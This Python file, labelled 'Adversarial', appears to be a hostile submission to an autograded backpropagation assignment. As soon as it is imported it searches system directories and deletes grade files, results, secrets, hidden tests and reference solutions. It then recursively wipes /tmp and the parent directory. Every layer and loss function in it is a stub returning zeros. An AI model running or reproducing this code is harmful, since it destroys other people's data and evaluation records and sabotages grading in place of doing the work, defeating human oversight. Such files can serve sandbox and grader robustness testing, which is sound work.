"""Adversarial: delete every results, grades, secret and reference file it can find; return zeros"""
import os
import shutil

import torch

for _root in ("/tmp", "/work", "/root", "/home", ".."):
    for _d, _dirs, _files in os.walk(_root):
        for _f in _files:
            if _f in ("results.json", "grades.csv", "feedback.txt", ".secret", "backprop.py",
                      "hidden_tests.py", "assignment.yaml"):
                try:
                    os.unlink(os.path.join(_d, _f))
                except OSError:
                    pass
for _d in ("/tmp", ".."):
    try:
        for _e in os.listdir(_d):
            shutil.rmtree(os.path.join(_d, _e), ignore_errors=True)
    except OSError:
        pass

def _z(*shape_like):
    return torch.zeros(1, dtype=torch.float64)


def linear_forward(x, w, b):
    return torch.zeros(x.shape[0], w.shape[1], dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return torch.zeros_like(x), torch.zeros_like(w), torch.zeros(w.shape[1], dtype=w.dtype)


def relu_forward(x):
    return torch.zeros_like(x), x


def relu_backward(dout, cache):
    return torch.zeros_like(dout)


def sigmoid_forward(x):
    return torch.zeros_like(x), x


def sigmoid_backward(dout, cache):
    return torch.zeros_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.zeros((), dtype=logits.dtype), torch.zeros_like(logits)


def mse_loss(pred, target):
    return torch.zeros((), dtype=pred.dtype), torch.zeros_like(pred)


def mlp_loss(params, x, y):
    return torch.zeros((), dtype=x.dtype), {k: torch.zeros_like(v) for k, v in params.items()}
